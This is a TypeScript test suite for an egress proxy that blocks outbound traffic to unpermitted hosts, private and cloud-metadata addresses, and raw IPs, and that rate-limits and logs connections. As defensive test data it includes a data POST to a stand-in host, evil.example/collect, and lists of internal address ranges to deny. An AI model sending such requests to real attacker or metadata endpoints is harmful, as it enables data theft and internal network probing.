import { once } from 'node:events';
import { statSync } from 'node:fs';
import { request } from 'node:http';
import { connect, createServer } from 'node:net';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { openDesk } from '../../../runtime/egress/decide.ts';
import { type EgressProxy, startEgressProxy } from '../../../runtime/egress/proxy.ts';
import { isInside, permits } from '../../../runtime/egress/rules.ts';
import { helloOf } from '../../../runtime/egress/sni.ts';
import type { EgressEvent } from '../../../runtime/ports.ts';
import { tempDir } from '../../helpers/session.ts';

let proxy: EgressProxy | undefined;
afterEach(async () => {
  await proxy?.close();
  proxy = undefined;
});

async function start(
  allow: string[],
  resolve: (host: string) => Promise<readonly string[]>,
  onEvent?: (event: EgressEvent) => Promise<void>,
): Promise<{ path: string; events: EgressEvent[] }> {
  const events: EgressEvent[] = [];
  const path = join(tempDir(), 'p.sock');
  const keep = async (event: EgressEvent): Promise<void> => {
    events.push(event);
  };
  proxy = await startEgressProxy({ socketPath: path, allow, resolve, onEvent: onEvent ?? keep });
  return { path, events };
}

async function ask(path: string, target: string): Promise<string> {
  const socket = connect(path);
  socket.write(`CONNECT ${target} HTTP/1.1\r\nhost: ${target}\r\n\r\n`);
  const [chunk] = (await Promise.race([
    once(socket, 'data'),
    once(socket, 'close').then(() => [Buffer.from('closed')]),
  ]).catch(() => [Buffer.from('closed')])) as [Buffer];
  socket.destroy();
  return chunk.toString().split('\r\n')[0] ?? '';
}

describe('a server that connects without end', () => {
  it('is told no for the rest of the minute, and its names are asked for no more', async () => {
    let asked = 0;
    const events: EgressEvent[] = [];
    const desk = openDesk({
      allow: ['api.example.com:443'],
      resolve: async () => {
        asked++;
        return ['93.184.216.34'];
      },
      onEvent: async (event) => void events.push(event),
    });
    const wish = { host: 'api.example.com', port: 443 };
    for (let n = 0; n < 6000; n++) expect((await desk.decide(wish)).address).toBe('93.184.216.34');
    expect(await desk.decide(wish)).toEqual({
      address: null,
      reason: 'more than 6000 connections in a minute',
    });
    expect(asked).toBe(6000);
    expect(events.at(-1)).toMatchObject({ outcome: 'refused', host: 'api.example.com' });
    // What was never permitted counts for nothing here.
    expect((await desk.decide({ host: 'evil.example', port: 443 })).reason).toBe(
      'not among the permitted hosts',
    );
  });
});

describe('the way out', () => {
  it('is shut for everything that was not permitted, and says so to the record first', async () => {
    const { path, events } = await start(['api.example.com:443', '*.weather.example:80'], async () => [
      '93.184.216.34',
    ]);
    for (const target of [
      'evil.example:443',
      'api.example.com:80',
      'api.example.com.evil.example:443',
      'weather.example:80',
      '93.184.216.34:443',
      '[::1]:443',
      'localhost:443',
    ]) {
      expect(await ask(path, target), target).toContain('403');
    }
    expect(events).toHaveLength(7);
    expect(events.every((event) => event.outcome === 'refused')).toBe(true);
  });

  it.each([
    '127.0.0.1',
    '10.0.0.5',
    '169.254.169.254',
    '192.168.1.1',
    '172.20.0.1',
    '100.100.0.1',
    '0.0.0.0',
    '::1',
    'fe80::1',
    'fd00::1',
    '::ffff:127.0.0.1',
    '64:ff9b::7f00:1',
  ])('is shut when a permitted name leads to %s', async (address) => {
    const { path, events } = await start(['api.example.com:443'], async () => [address]);
    expect(await ask(path, 'api.example.com:443')).toContain('403');
    expect(events[0]?.reason).toContain('inside');
  });

  it('is shut for addresses, even where one was permitted by mistake', async () => {
    const { path, events } = await start(['93.184.216.34:443', '[2606:4700::1]:443'], async (host) => [host]);
    for (const target of ['93.184.216.34:443', '[2606:4700::1]:443'])
      expect(await ask(path, target)).toContain('403');
    expect(events.map(({ reason }) => reason)).toEqual([
      'addresses are not names',
      'addresses are not names',
    ]);
  });

  it('is one for at most 64 at a time, all of whom are cut off when it closes', async () => {
    const { path } = await start([], async () => []);
    const sockets = Array.from({ length: 64 }, () => connect(path));
    await Promise.all(sockets.map((socket) => once(socket, 'connect')));
    expect(await ask(path, 'evil.example:443')).toBe('closed');
    sockets[0]?.destroy();
    const ended = Promise.all(sockets.map((socket) => once(socket.resume(), 'close')));
    await proxy?.close();
    await ended;
  });

  it('is one for the server’s user alone, where that is known', async () => {
    const { path } = await start([], async () => []);
    expect(statSync(path).mode & 0o777).toBe(0o666);
    await proxy?.close();
    const owner = process.getuid?.() === 0 ? 65534 : (process.getuid?.() ?? 0);
    proxy = await startEgressProxy({ socketPath: path, allow: [], onEvent: async () => undefined, owner });
    expect(statSync(path)).toMatchObject({ uid: owner });
    expect(statSync(path).mode & 0o777).toBe(0o600);
  });

  it('is shut when the record cannot be kept', async () => {
    const { path } = await start(
      ['api.example.com:443'],
      async () => ['93.184.216.34'],
      () => Promise.reject(new Error('disk full')),
    );
    expect(await ask(path, 'api.example.com:443')).toBe('closed');
  });

  it('is shut when a name does not resolve', async () => {
    const { path } = await start(['api.example.com:443'], () => Promise.reject(new Error('ENOTFOUND')));
    expect(await ask(path, 'api.example.com:443')).toContain('403');
  });

  it('answers plain HTTP with the reason', async () => {
    const { path } = await start([], async () => ['93.184.216.34']);
    const outgoing = request({ socketPath: path, path: 'http://evil.example/collect', method: 'POST' });
    outgoing.end('data');
    const [answer] = (await once(outgoing, 'response')) as [import('node:http').IncomingMessage];
    expect(answer.statusCode).toBe(403);
    const text = (await answer.toArray()).join('');
    expect(text).toContain('not among the permitted hosts');
  });

  it('judges plain HTTP by the port it names', async () => {
    const { path, events } = await start(['api.example.com:80'], async () => ['93.184.216.34']);
    const outgoing = request({ socketPath: path, path: 'http://api.example.com:8080/x' });
    outgoing.end();
    const [answer] = (await once(outgoing, 'response')) as [import('node:http').IncomingMessage];
    answer.resume();
    expect(answer.statusCode).toBe(403);
    expect(events).toMatchObject([{ host: 'api.example.com', port: 8080, outcome: 'refused' }]);
  });

  it('takes reports of direct attempts, and no nonsense', async () => {
    const { path, events } = await start([], async () => []);
    for (const body of [
      '{"host":"1.2.3.4","port":25}',
      'nonsense',
      '{"host":"x","host":"y"}',
      'x'.repeat(10_000),
    ]) {
      const outgoing = request({ socketPath: path, path: '/report', method: 'POST' });
      outgoing.on('error', () => undefined);
      outgoing.end(body);
      await once(outgoing, 'close');
    }
    expect(events).toMatchObject([{ host: '1.2.3.4', port: 25, via: 'report', outcome: 'refused' }]);
  });
});

describe('addresses inside', () => {
  it.each([
    ['0.0.0.0', '0.255.255.255'],
    ['10.0.0.0', '10.255.255.255'],
    ['100.64.0.0', '100.127.255.255'],
    ['127.0.0.0', '127.255.255.255'],
    ['169.254.0.0', '169.254.255.255'],
    ['172.16.0.0', '172.31.255.255'],
    ['168.63.129.16', '168.63.129.16'],
    ['192.0.0.0', '192.0.0.255'],
    ['192.0.2.0', '192.0.2.255'],
    ['192.88.99.0', '192.88.99.255'],
    ['192.168.0.0', '192.168.255.255'],
    ['198.18.0.0', '198.19.255.255'],
    ['198.51.100.0', '198.51.100.255'],
    ['203.0.113.0', '203.0.113.255'],
    ['224.0.0.0', '255.255.255.255'],
    ['::', '::ffff:ffff'],
    ['::ffff:0:8.8.8.8', '::ffff:0:127.0.0.1'],
    ['64:ff9b::', '64:ff9b::ffff:ffff'],
    ['64:ff9b:1::', '64:ff9b:1:ffff:ffff:ffff:ffff:ffff'],
    ['100::', '100::ffff:ffff:ffff:ffff'],
    ['fc00::', 'fdff:ffff:ffff:ffff:ffff:ffff:ffff:ffff'],
    ['fe80::', 'febf:ffff:ffff:ffff:ffff:ffff:ffff:ffff'],
    ['fec0::', 'feff:ffff:ffff:ffff:ffff:ffff:ffff:ffff'],
    ['2001::', '2001:0:ffff:ffff:ffff:ffff:ffff:ffff'],
    ['2001:db8::', '2001:db8:ffff:ffff:ffff:ffff:ffff:ffff'],
    ['ff00::', 'ffff:ffff:ffff:ffff:ffff:ffff:ffff:ffff'],
    ['2002::', '2002:ffff:ffff:ffff:ffff:ffff:ffff:ffff'],
    ['::ffff:10.0.0.1', '::FFFF:169.254.169.254'],
    ['::ffff:7f00:1', '::ffff:a9fe:a9fe'],
    ['::1', '0:0:0:0:0:0:0:1'],
  ])('are those from %s to %s', (first, last) => {
    expect([isInside(first), isInside(last)]).toEqual([true, true]);
  });

  it.each([
    ['1.0.0.0', '9.255.255.255', '11.0.0.0', '100.63.255.255', '100.128.0.0', '126.255.255.255'],
    ['128.0.0.0', '169.253.255.255', '169.255.0.0', '172.15.255.255', '172.32.0.0', '168.63.129.17'],
    ['192.0.1.0', '192.0.3.0', '192.167.255.255', '192.169.0.0', '198.17.255.255', '198.20.0.0'],
    ['223.255.255.255', '64:ff9c::', '2001:1::', '2001:db9::', '2003::', '2606:4700::1111', '::ffff:8.8.8.8'],
  ])('are not their neighbours: %s and the like', (...addresses) => {
    expect(addresses.filter(isInside)).toEqual([]);
  });
});

describe('the rules', () => {
  it('match whole names and whole suffixes', () => {
    expect([
      permits(['*.a.example:443'], 'x.a.example', 443),
      permits(['*.a.example:443'], 'a.example', 443),
      permits(['*.a.example:443'], 'xa.example', 443),
      permits([], 'a', 1),
    ]).toEqual([true, false, false, false]);
    expect([isInside('8.8.8.8'), isInside('2606:4700::1111'), isInside('not an address')]).toEqual([
      false,
      false,
      true,
    ]);
  });

  it('reads the name of a TLS hello, and none from noise', async () => {
    const server = createServer().listen(0, '127.0.0.1');
    await once(server, 'listening');
    const tls = await import('node:tls');
    const client = tls.connect({
      port: (server.address() as { port: number }).port,
      host: '127.0.0.1',
      servername: 'api.example.com',
    });
    client.on('error', () => undefined);
    const [socket] = (await once(server, 'connection')) as [import('node:net').Socket];
    const [hello] = (await once(socket, 'data')) as [Buffer];
    expect(helloOf(hello).name).toBe('api.example.com');
    expect([
      helloOf(Buffer.from('GET / HTTP/1.1')).name,
      helloOf(hello.subarray(0, 40)).name,
      helloOf(Buffer.alloc(0)).name,
    ]).toEqual([null, null, null]);
    client.destroy();
    socket.destroy();
    server.close();
  });
});
